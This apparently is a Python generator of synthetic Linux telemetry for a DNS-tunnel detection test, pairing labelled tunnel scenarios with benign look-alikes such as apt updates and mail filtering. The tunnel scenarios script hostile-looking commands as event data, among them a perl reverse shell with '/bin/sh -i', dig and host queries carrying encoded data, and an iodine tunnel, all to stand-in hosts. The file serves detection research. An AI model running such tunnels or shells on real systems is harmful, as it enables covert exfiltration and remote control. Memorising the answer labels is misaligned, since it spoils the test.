# SPDX-License-Identifier: Apache-2.0
"""Stories of Linux machines: tunnels, and work that looks like one."""

import base64
import random

from linux_machine import RESOLVER, Machine, ordinary, times

START = 1793664000  # 2026-11-03T00:00:00Z
OUTSIDE = "198.51.100.53"
WORDS = ("amber", "bridge", "cedar", "delta", "ember", "field", "grove", "harbor", "iron",
         "juniper", "lantern", "meadow", "north", "orchard", "prairie", "quarry", "river", "stone",
         "timber", "valley", "willow")


def payload(rng, n_bytes, encode=base64.b32encode):
    return encode(rng.randbytes(n_bytes)).decode().rstrip("=").lower()


def hexadecimal(data):
    return data.hex().encode()


def dig(m, t, shell, name, qtype="TXT", server=RESOLVER):
    who = m.child(t, shell, "/usr/bin/dig", ["dig", "+short", f"@{server}", qtype, name])
    m.connect(t + 0.03, who, server)


# ---------------------------------------------------------------------- tunnels

def dig_from_cron(m, seconds):
    """A script below cron carries a file out in names, with dig."""
    zone = "paperlantern.example"
    for t in times(m.rng, m.start, seconds, 120, 0.0):
        job = m.cron(t, "www-data", "/var/tmp/.cache/sync.sh")
        script = m.child(t + 0.05, job, "/usr/bin/bash", ["bash", "/var/tmp/.cache/sync.sh"])
        for i in range(m.rng.randint(3, 8)):
            dig(m, t + 0.2 + i * 0.4, script, f"{payload(m.rng, 30)}.t.{zone}")
    return zone, "/usr/bin/dig"


def python_below_php(m, seconds):
    """A program below a web server writes messages of its own to a server outside."""
    php = m.run(m.start + 2, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], 901, "www-data")
    m.connect(m.start + 3, php, "127.0.0.1", 3306)
    shell = m.child(m.start + 60, php, "/usr/bin/dash", ["sh", "-c", "python3 /tmp/.x/a.py &"])
    python = m.child(m.start + 60.1, shell, "/usr/bin/python3.11", ["python3", "/tmp/.x/a.py"])
    for t in times(m.rng, m.start + 61, seconds - 61, 2, 0.3):
        m.sendto(t, python, OUTSIDE, m.rng.randint(110, 230))
    return "-", "/usr/bin/python3.11"


def iodine_unit(m, seconds):
    """A unit of systemd runs iodine."""
    zone = "quarrynet.example"
    iodine = m.run(m.start + 30, "/usr/sbin/iodine",
                   ["iodine", "-f", "-r", "-P", "x", OUTSIDE, f"t.{zone}"], 1)
    for t in times(m.rng, m.start + 31, seconds - 31, 0.8):
        m.sendto(t, iodine, OUTSIDE, m.rng.choice((44, 49, 90, 281, 281, 281)))
    return zone, "/usr/sbin/iodine"


def curl_reverse_shell(m, seconds):
    """Somebody at the other end of a socket calls curl with a new name each time."""
    zone = "stonegate.example"
    perl = m.run(m.start + 100, "/usr/bin/perl", ["perl", "/tmp/.r.pl"], 901, "www-data")
    m.connect(m.start + 100.1, perl, "198.51.100.9", 443, fd=4)
    for i in range(3):
        m.add("dup", m.start + 100.2, perl, fd=4, to=i)
    shell = m.exec(m.start + 100.3, {**perl, "exe": "/usr/bin/dash"}, ["/bin/sh", "-i"])
    for t in times(m.rng, m.start + 110, seconds - 110, 25, 0.5):
        name = f"{payload(m.rng, 24, hexadecimal)}.c.{zone}"
        curl = m.child(t, shell, "/usr/bin/curl", ["curl", "-s", "-m", "3", f"http://{name}/"])
        m.stub_lookup(t + 0.05, curl, then="198.51.100.7")
    return zone, "/usr/bin/curl"


def host_beacon(m, seconds):
    """A loop that nobody is logged in for asks once a minute, more or less, for orders."""
    zone = "northwick.example"
    loop = m.run(m.start + 20, "/usr/bin/bash", ["bash", "/dev/shm/.d"], 1, "al")
    n = 0
    for t in times(m.rng, m.start + 30, seconds - 30, 60, 0.3):
        n += 1
        name = f"{payload(m.rng, 18)}.{n:04x}.{zone}"
        who = m.child(t, loop, "/usr/bin/host", ["host", "-t", "TXT", name])
        m.stub_lookup(t + 0.02, who)
        m.child(t + 0.3, loop, "/usr/bin/sleep", ["sleep", "60"])
    return zone, "/usr/bin/host"


# --------------------------------------------------------------- ordinary days

def resolver_daemon(m, seconds):
    """A resolver asks all the world, at its clients' wish."""
    unbound = m.run(m.start + 5, "/usr/sbin/unbound", ["unbound", "-d"], 1, "unbound")
    for t in times(m.rng, m.start + 6, seconds - 6, 0.9):
        m.sendto(t, unbound, f"203.0.113.{m.rng.randint(1, 250)}", m.rng.randint(30, 75))
    return "-", "/usr/sbin/unbound"


def update_day(m, seconds):
    """Packages are brought up to date: many short processes that look names up."""
    for t in times(m.rng, m.start, seconds, 7200, 0.1):
        apt = m.run(t, "/usr/bin/apt-get", ["apt-get", "-qq", "-y", "dist-upgrade"], 1)
        for i in range(40):
            method = m.exec(t + i, {**apt, "exe": "/usr/lib/apt/methods/http", "user": "_apt",
                                    "uid": 42, "ppid": apt["pid"], "pid": m.new_pid()},
                            ["/usr/lib/apt/methods/http"])
            m.stub_lookup(t + i + 0.1, method, then="198.51.100.80")
        for i in range(60):
            package = f"lib{m.rng.choice(WORDS)}{i}"
            m.child(t + 60 + i, apt, "/usr/bin/dpkg",
                    ["dpkg", "--unpack", f"/var/cache/apt/archives/{package}.deb"])
        curl = m.child(t + 130, apt, "/usr/bin/curl",
                       ["curl", "-fsS", "https://deb.harborview.example/Release"])
        m.stub_lookup(t + 130.1, curl, then="198.51.100.80")
    return "-", "/usr/lib/apt/methods/http"


def monitoring_dig(m, seconds):
    """Every minute a script asks its own servers for its own names."""
    zone = "harborview.example"
    names = ["www", "mail", "git", "api", "shop", "ns1", "ns2"]
    for t in times(m.rng, m.start, seconds, 60, 0.0):
        job = m.cron(t, "monitor", "/usr/local/bin/check-dns")
        script = m.child(t + 0.05, job, "/usr/bin/bash", ["bash", "/usr/local/bin/check-dns"])
        dig(m, t + 0.1, script, zone, "SOA")
        for i, name in enumerate(names):
            dig(m, t + 0.2 + i * 0.1, script, f"{name}.{zone}", "A")
    return "-", "/usr/bin/dig"


def crawler(m, seconds):
    """A program that fetches pages looks up more names than anybody, each in a zone of its own."""
    shell = m.run(m.start + 9, "/usr/bin/bash", ["bash", "/srv/crawl/run.sh"], 1, "al")
    for t in times(m.rng, m.start + 10, seconds - 10, 4):
        zone = f"{m.rng.choice(WORDS)}-{m.rng.choice(WORDS)}{m.rng.choice(('', 's', 'ly'))}.example"
        name = m.rng.choice(("www.", "www.", "blog.", "")) + zone
        wget = m.child(t, shell, "/usr/bin/wget", ["wget", "-q", "-O", "-", f"https://{name}/"])
        m.stub_lookup(t + 0.05, wget, then=f"203.0.113.{m.rng.randint(1, 250)}")
    return "-", "/usr/bin/wget"


def mail_filter(m, seconds):
    """A mail server asks block lists about every address that calls."""
    smtpd = m.run(m.start + 5, "/usr/lib/postfix/sbin/smtpd", ["smtpd", "-n", "smtp"], 800,
                  "postfix")
    for t in times(m.rng, m.start + 6, seconds - 6, 5):
        for i in range(m.rng.randint(2, 6)):
            m.stub_lookup(t + i * 0.01, smtpd)
    return "-", "/usr/lib/postfix/sbin/smtpd"


TUNNELS = {f.__name__: f for f in (dig_from_cron, python_below_php, iodine_unit,
                                   curl_reverse_shell, host_beacon)}
ORDINARY = {f.__name__: f for f in (resolver_daemon, update_day, monitoring_dig, crawler,
                                    mail_filter)}


def make(name, hours, seed):
    """The events of a scenario in their order, and what there is to find."""
    rng = random.Random(f"{seed} {name}")
    m = Machine(f"web{rng.randint(1, 9)}", rng, START)
    tell = TUNNELS.get(name) or ORDINARY[name]
    ordinary(m, hours * 3600)
    zone, image = tell(m, hours * 3600)
    m.events.sort(key=lambda e: e["t"])
    label = "tunnel" if name in TUNNELS else "benign"
    return m.host, m.events, {"label": label, "host": m.host, "image": image, "domain": zone}
